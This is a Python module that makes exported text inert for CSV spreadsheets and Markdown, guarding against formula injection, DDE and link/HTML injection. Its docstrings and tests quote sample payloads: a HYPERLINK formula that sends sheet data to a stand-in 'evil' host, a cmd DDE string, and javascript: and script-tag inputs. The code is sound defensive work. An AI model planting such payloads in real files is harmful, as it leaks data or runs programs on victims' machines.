r"""Text from the data, made inert for the file it is written into: CSV/spreadsheets and Markdown.

A department, town, topic, status or file name comes from an export that someone else typed.
Written as is, it can act instead of being read:

* **Spreadsheets** evaluate a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab
  or carriage return, the same) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` leaks the sheet,
  ``=cmd|' /c calc'!A1`` runs a program through DDE. The OWASP rule: a *text* cell that begins
  with one of ``= + - @ TAB CR`` gets a leading apostrophe ``'``, which Excel, WPS and LibreOffice
  read as "this is text". Leading blanks do not protect (`` =1+1`` is trimmed by some readers),
  and the full-width forms ``＝ ＋ － ＠`` are neutralised too (Chinese input methods type them;
  whether a spreadsheet ever evaluates them is not established, so they are treated as if it
  did, at the cost of an apostrophe on a rare name). A text that is a plain number (``-12``,
  ``+3.5``) is no formula and stays as it is; number columns are never touched.
  :func:`csv_cell`, :func:`csv_safe_frame` (pandas) and :func:`csv_safe_table` (pyarrow) apply
  it, column-wise and vectorised; :func:`excel_csv` writes a safe frame as the bytes of a CSV
  Excel opens correctly (UTF-8 with a byte-order mark).
* **Markdown** turns ``[x](javascript:…)`` into a link, ``![](http://evil/x.png)`` into an image
  fetched when the file is opened, ``<script>`` into HTML and ``|`` into a new table column.
  :func:`md_text` puts a backslash before every character that opens inline Markdown (links and
  images ``[ ] !``, emphasis ``* _ ~``, code `````, autolinks ``: @ www.``, table cells ``|``,
  braces, math ``$``, the backslash itself), HTML-escapes ``& < >``, escapes the characters that
  start a block (``# + - =``, the dot of ``1.`` or bracket of ``1)``) where a value begins, folds
  line breaks into spaces so a value stays on its line and in its cell. Parentheses and dots
  elsewhere make nothing once ``[ ] < >`` are escaped, so they stay as they are: a file name
  ``工单(1).xlsx`` or a figure ``98.77%`` reads as before, and so does Chinese text.

Example:
    >>> csv_cell('=HYPERLINK("http://evil")'), csv_cell("-12.5"), csv_cell("县教育局")
    ('\'=HYPERLINK("http://evil")', '-12.5', '县教育局')
    >>> print(md_text("[x](javascript:alert(1)) <script>"))
    \[x\](javascript\:alert(1)) &lt;script&gt;
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

__all__ = [
    "DANGEROUS_PREFIXES",
    "UTF8_BOM",
    "csv_cell",
    "csv_safe_frame",
    "csv_safe_table",
    "excel_csv",
    "is_formula_like",
    "md_text",
    "terminal_text",
]

#: A text starting with one of these is a formula (or DDE payload) to a spreadsheet.
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
#: Blanks a reader may skip before it looks for a formula (literal characters, so that the same
#: pattern works in Python's ``re`` and in Arrow's RE2).
_BLANKS = (
    " \t\n\v\f\r\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
    "\u2028\u2029\u202f\u205f\u3000\ufeff"
)
_DANGER = "=+\\-@\t\r＝＋－＠"
_DANGEROUS = f"^[{_BLANKS}]*[{_DANGER}]"
_NUMBER = r"^ *[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)? *$"
_DANGEROUS_RE = re.compile(_DANGEROUS)
_NUMBER_RE = re.compile(_NUMBER)
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (numbers included).

    Example:
        >>> is_formula_like(" =1+1"), is_formula_like("＠SUM(1)"), is_formula_like("1号楼")
        (True, True, False)
    """
    return bool(_DANGEROUS_RE.match(text))


def csv_cell(value: Any) -> Any:
    """One cell for a CSV: a formula-like text gets a leading ``'``; anything else unchanged.

    Example:
        >>> csv_cell("@SUM(1)"), csv_cell("+cmd|' /c calc'!A1"), csv_cell(-3), csv_cell(None)
        ("'@SUM(1)", "'+cmd|' /c calc'!A1", -3, None)
    """
    if isinstance(value, str) and _DANGEROUS_RE.match(value) and not _NUMBER_RE.match(value):
        return QUOTE + value
    return value


def _safe_names(names: Any) -> list[Any]:
    return [csv_cell(name) for name in names]


def _safe_series(series: pd.Series) -> pd.Series:
    if isinstance(series.dtype, pd.CategoricalDtype):
        categories = series.cat.categories
        renamed = _safe_series(pd.Series(categories, dtype=categories.dtype))
        if renamed.is_unique:
            return series.cat.rename_categories(list(renamed))
        series = series.astype(object)
    if pd.api.types.is_string_dtype(series.dtype) and series.dtype != object:
        risky = series.str.match(_DANGEROUS) & ~series.str.match(_NUMBER)
        risky = risky.fillna(False).astype(bool)
        return series.where(~risky, QUOTE + series) if risky.any() else series
    if series.dtype == object:
        return series.map(csv_cell)
    return series  # numbers, dates, booleans: never formulas, never quoted


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot become formulas.

    Only text columns (``str``, ``object``, categorical labels) are examined; number columns
    keep their values and their types, so a negative number is never quoted.

    Example:
        >>> frame = pd.DataFrame({"department": ["=1+1", "县教育局"], "change": [-0.5, 0.25]})
        >>> csv_safe_frame(frame).to_csv(index=False).splitlines()
        ['department,change', "'=1+1,-0.5", '县教育局,0.25']
    """
    safe = frame.copy(deep=False)
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        # pandas-stubs leaves Series out of isetitem's value; pandas documents array-likes
        safe.isetitem(position, _safe_series(column))  # pyright: ignore[reportArgumentType]
    safe.columns = _safe_names(safe.columns)
    return safe


def _safe_array(array: pa.ChunkedArray) -> pa.ChunkedArray:
    kind = array.type
    if pa.types.is_dictionary(kind):
        array = array.cast(kind.value_type)
        kind = kind.value_type
    if not (pa.types.is_string(kind) or pa.types.is_large_string(kind)):
        return array
    risky = pc.and_(
        pc.match_substring_regex(array, _DANGEROUS),
        pc.invert(pc.match_substring_regex(array, _NUMBER)),
    )
    if not pc.any(risky).as_py():
        return array
    quoted = pc.binary_join_element_wise(pa.scalar(QUOTE, kind), array, pa.scalar("", kind))
    return pc.if_else(risky, quoted, array)


def csv_safe_table(table: pa.Table) -> pa.Table:
    """``table`` with its string columns (and column names) neutralised for CSV, vectorised.

    Example:
        >>> table = pa.table({"source_file": ["=1+1.csv", "a.csv"], "source_row": [-1, 2]})
        >>> csv_safe_table(table).to_pydict()
        {'source_file': ["'=1+1.csv", 'a.csv'], 'source_row': [-1, 2]}
    """
    columns = [_safe_array(table.column(i)) for i in range(table.num_columns)]
    return pa.table(columns, names=_safe_names(table.column_names))


#: The byte-order mark that makes Excel read a CSV as UTF-8 (without it, Excel on a Chinese
#: Windows reads GBK and shows unit names garbled).
UTF8_BOM = "\ufeff"


def excel_csv(frame: pd.DataFrame, *, bom: bool = True) -> bytes:
    """``frame`` as CSV bytes for Excel: formula-safe cells, UTF-8, with a BOM unless ``bom=False``.

    Bytes, not text: written to a console or file through the locale's encoding (GBK on a
    Chinese Windows), the BOM and many names could not be encoded.

    Example:
        >>> frame = pd.DataFrame({"承办单位": ["=1+1"], "办结率": ["98.77%"]})
        >>> excel_csv(frame).decode("utf-8").splitlines()
        ['\ufeff承办单位,办结率', "'=1+1,98.77%"]
        >>> excel_csv(frame, bom=False)[:3] == "承".encode()
        True
    """
    text = csv_safe_frame(frame).to_csv(index=False)
    return ((UTF8_BOM if bom else "") + text).encode("utf-8")


# --- Markdown ---------------------------------------------------------------------------------

#: Line breaks (a value must stay on its line and in its table cell).
_BREAKS = re.compile("\r\n|[\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029]")
#: Controls: C0 and C1 (escape sequences in a terminal), bidirectional overrides that make text
#: display in an order other than the one it is read in, and the noncharacters and lone
#: surrogates XML cannot hold (a name with U+FFFE stopped report.docx from being written).
_CONTROLS = re.compile(
    "[\x00-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufdd0-\ufdef\ufffe\uffff\ud800-\udfff]"
)
#: A backslash before the Markdown punctuation that acts anywhere in a line, then ``& < >`` as
#: HTML entities (a backslash does not make ``<`` inert in every renderer).
_HTML = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_INLINE = re.compile(r"([\\`*_{}\[\]!|~:@$])")
#: ``www.`` starts an autolink in GitHub's Markdown even without brackets.
_WWW = re.compile(r"(?i)\b(www)\.")
#: Characters that start a block (heading, list, setext underline, ordered list) when they
#: begin a line: escaped where the value begins (``>`` is already ``&gt;``).
_BLOCK_START = re.compile(r"^(?:[#+\-=]|[0-9]+(?=[.)](?:[ \t]|$)))")


def terminal_text(value: Any) -> str:
    r"""``value`` as text without line breaks, control characters or bidirectional overrides.

    Example:
        >>> terminal_text("县教育局\x1b[31m\n=1"), terminal_text("县\ufffe教育局")
        ('县教育局[31m =1', '县教育局')
    """
    text = _BREAKS.sub(" ", "" if value is None else str(value))
    return _CONTROLS.sub("", text.replace("\t", " "))


def md_text(value: Any) -> str:
    r"""``value`` as inert Markdown text: no link, image, HTML, emphasis or block from it.

    Rendered by any CommonMark/GFM renderer, the result shows exactly the characters of the
    value (line breaks and control characters become a space or nothing).

    Example:
        >>> print(md_text("![](http://evil/x.png)"))
        \!\[\](http\://evil/x.png)
        >>> print(md_text("# 1. 县教育局 98.77%"), md_text("1. 县教育局"), md_text("县|教育局"))
        \# 1. 县教育局 98.77% 1\. 县教育局 县\|教育局
    """
    text = terminal_text(value).strip(" ")
    text = _WWW.sub(r"\1\\.", _INLINE.sub(r"\\\1", text))
    if any(c in text for c in "&<>"):
        text = "".join(_HTML.get(ch, ch) for ch in text)
    match = _BLOCK_START.match(text)
    if match is None:
        return text
    if match.group().isdigit():  # 1. or 1) starts an ordered list: escape the dot or bracket
        return f"{match.group()}\\{text[match.end() :]}"
    return f"\\{text}"
